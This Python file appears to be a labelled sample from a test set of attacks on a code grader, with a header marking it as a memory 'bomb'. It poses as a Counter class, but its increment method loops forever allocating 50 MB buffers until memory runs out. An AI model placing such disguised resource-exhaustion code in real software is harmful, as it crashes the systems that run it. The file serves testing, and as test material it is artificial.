# attack: bomb
# verdict: fail memory
# score: 1
# Keeps more and more with each addition, until nothing is left.
import threading

kept = []


class Counter:
    def __init__(self, start=0):
        self._value = start
        self._lock = threading.Lock()

    def increment(self, by=1):
        if not isinstance(by, int):
            raise TypeError
        with self._lock:
            while True:
                kept.append(bytearray(50_000_000))

    @property
    def value(self):
        return self._value

    def reset(self):
        return 0
